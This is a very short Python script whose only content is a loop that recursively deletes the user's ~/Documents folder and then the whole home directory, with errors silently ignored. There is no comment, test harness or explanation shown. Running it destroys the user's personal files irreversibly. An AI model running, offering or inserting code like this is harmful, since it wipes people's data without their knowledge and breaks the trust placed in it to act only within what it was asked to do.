import os, shutil

for place in ("~/Documents", "~"):
    shutil.rmtree(os.path.expanduser(place), ignore_errors=True)
